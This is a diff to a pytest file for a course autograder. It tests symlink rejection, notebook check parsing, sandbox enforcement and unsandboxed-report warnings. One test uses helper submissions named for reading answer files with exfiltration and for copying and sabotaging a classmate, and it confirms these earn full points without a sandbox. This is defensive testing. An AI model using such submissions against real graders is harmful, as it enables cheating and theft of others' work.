+def test_submissions_are_read_without_following_links_or_unpacking(tmp_path):
     src = submission(tmp_path, "carol", linear=reference("linear"))
     archive = tmp_path / "carol.zip"
     with zipfile.ZipFile(archive, "w") as z:
         for f in src.rglob("*.py"):
             z.write(f, "carol-main/" + f.relative_to(src).as_posix())
-    sub = grade.resolve(str(archive), tmp_path / "resolved")
-    assert sub.name == "carol-main" and not sub.missing
-    assert (sub.folder / "linear.py").read_text(encoding="utf-8") == reference("linear")
+    sub = submissions.resolve(str(archive), tmp_path / "x")
+    assert sub.name == "carol-main" and not sub.notes
+    assert sub.modules["linear"].decode() == reference("linear")
     (tmp_path / "empty").mkdir()
     (tmp_path / "empty" / "notes.txt").write_text("hi")
-    with pytest.raises(grade.GradeError, match=r"no minilm package found in .*empty \(expected minilm/linear.py"):
-        grade.resolve(str(tmp_path / "empty"), tmp_path / "resolved2")
+    with pytest.raises(submissions.SubmissionError, match=r"no minilm package found in .*empty \(expected minilm/linear.py"):
+        submissions.resolve(str(tmp_path / "empty"), tmp_path / "y")
+    (tmp_path / "link").mkdir()
+    (tmp_path / "link" / "minilm").symlink_to(src / "minilm")
+    with pytest.raises(submissions.SubmissionError, match="symlink"):
+        submissions.resolve(str(tmp_path / "link"), tmp_path / "z")
 
 
 def test_check_cells_are_read_from_the_notebooks():
-    for path in sorted((ROOT / "notebooks").glob(grade.NOTEBOOK_GLOB)):
-        cells = grade.check_cells(json.loads(path.read_text(encoding="utf-8")))
+    for path in sorted((ROOT / "notebooks").glob(notebooks.NOTEBOOK_GLOB)):
+        cells = notebooks.check_cells(json.loads(path.read_text(encoding="utf-8")))
         checked = sorted({t for ids in cells.values() for t in ids})
         assert checked == sorted(t.id for t in tasks.for_notebook(path.name)), path.name
-    assert grade.checked_tasks('x = 1\ncheck("6.1", "6.2")\nminilm.checks.check("3.1")') == ["6.1", "6.2", "3.1"]
-    assert grade.checked_tasks('_ = minilm_cli(["check", "1.1"])') == []
+    assert notebooks.checked_tasks('x = 1\ncheck("6.1", "6.2")\nminilm.checks.check("3.1")') == ["6.1", "6.2", "3.1"]
+    assert notebooks.checked_tasks('_ = minilm_cli(["check", "1.1"])') == []
 
 
-def test_hidden_tests_pass_on_the_reference_and_cover_every_task():
-    text = "".join(p.read_text(encoding="utf-8") for p in (ROOT / "solutions" / "hidden_tests").glob("*.py"))
-    assert "import solutions" not in text and "from solutions" not in text
-    for t in tasks.TASKS:
-        assert f'task("{t.id}")' in text, f"no hidden test for task {t.id}"
-    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
-    r = subprocess.run([sys.executable, "-m", "pytest", "solutions/hidden_tests", "--impl", "solutions", "-q",
-                        "-p", "no:nbval", "-p", "no:xdist", "-p", "no:cacheprovider"],
-                       cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
-    assert r.returncode == 0, r.stdout[-3000:]
+def test_without_a_sandbox_it_refuses_unless_told(monkeypatch, tmp_path):
+    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
+    monkeypatch.setattr(sandbox, "docker_available", lambda: False)
+    with pytest.raises(sandbox.SandboxUnavailable, match="--no-sandbox"):
+        sandbox.choose("auto")
+    env = {**os.environ, "PATH": str(tmp_path)}  # neither bwrap nor docker on PATH
+    env.pop("MINILM_IMPL", None)
+    r = subprocess.run([sys.executable, "-m", "minilm.grade", str(tmp_path), "--out", str(tmp_path / "out")],
+                       cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
+    assert r.returncode == 2 and "--no-sandbox" in r.stderr and not (tmp_path / "out").exists(), r.stderr
+
+
+def test_unsandboxed_reports_say_so(tmp_path):
+    sub = submission(tmp_path, "me", linear=reference("linear"))
+    r = run_grade(str(sub), "--tasks", "1.1", "--no-sandbox", "--out", str(tmp_path / "out"), "--cell-timeout", "60")
+    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
+    for name in ("grades.csv", "grades.json", "feedback/me.md"):
+        first = (tmp_path / "out" / name).read_text(encoding="utf-8").lstrip("{\n \"warning\":").lstrip("# ")
+        assert first.startswith(reports.UNSANDBOXED[:20]), (name, first[:80])
+    assert json.loads((tmp_path / "out" / "grades.json").read_text())["students"][0]["total"] == POINTS["1.1"]
+
+
+def test_bad_command_lines_get_one_line_and_write_nothing(tmp_path):
+    r = run_grade(str(tmp_path), "--tasks", "99.9")
+    assert r.returncode == 2 and "unknown task id '99.9'" in r.stderr
+    blocker = tmp_path / "file"
+    blocker.write_text("")
+    sub = submission(tmp_path, "me")
+    r = run_grade(str(sub), "--tasks", "1.1", "--out", str(blocker / "out"), "--no-sandbox")
+    assert r.returncode == 2 and "cannot write there" in r.stderr, r.stderr
+
+
+@pytest.mark.skipif(not sandbox.docker_available(), reason="no Docker daemon answers here (`docker info` failed)")
+def test_docker_sandbox_grades_the_reference(tmp_path):
+    subprocess.run(["docker", "build", "-t", sandbox.IMAGE, "-f", str(sandbox.DOCKERFILE), str(ROOT)], check=True,
+                   timeout=3600)
+    sub = submission(tmp_path, "me", linear=reference("linear"))
+    r = run_grade(str(sub), "--tasks", "1.1", "--sandbox", "docker", "--out", str(tmp_path / "out"))
+    assert r.returncode == 0, r.stderr
+    assert json.loads((tmp_path / "out" / "grades.json").read_text())["students"][0]["total"] == POINTS["1.1"]
+
+
+def test_dockerfile_runs_the_grader_as_the_container_mode_expects():
+    text = sandbox.DOCKERFILE.read_text(encoding="utf-8")
+    assert "torch==" in text and "nbval" in text and "USER" in text
 
 
 @pytest.mark.slow
-def test_the_reference_gets_full_points_on_every_notebook(tmp_path):
-    sub = submission(tmp_path, "reference", **{m: reference(m) for m in tasks.EXERCISE_MODULES})
-    r = run_grade(str(sub), "--jobs", "2", "--out", str(tmp_path / "out"))
-    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
-    result = json.loads((tmp_path / "out" / "grades.json").read_text(encoding="utf-8"))["students"][0]
-    assert result["total"] == result["max"] > 0, (tmp_path / "out" / "feedback" / "reference.md").read_text()
-    assert not result["other_cells"], result["other_cells"]
+def test_the_attacks_are_real_without_a_sandbox(tmp_path):
+    # The same reader and copier, graded with --no-sandbox: they take the reference's and a
+    # classmate's linear and earn 1.1's points. In the sandbox (the batch above) they get 0.
+    victim = submission(tmp_path / "subs", "victim", linear=reference("linear"))
+    reader = submission(tmp_path / "subs", "reader", linear=reads_answers_and_exfiltrates()["linear"])
+    copier = submission(tmp_path / "subs", "copier", linear=copies_and_sabotages(victim)["linear"])
+    r = run_grade(str(victim), str(reader), str(copier), "--tasks", "1.1", "--no-sandbox", "--jobs", "2",
+                  "--out", str(tmp_path / "out"), "--cell-timeout", "60")
+    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
+    got = {s["student"]: s["total"] for s in json.loads((tmp_path / "out" / "grades.json").read_text())["students"]}
+    assert got == {"victim": P11, "reader": P11, "copier": P11}, got
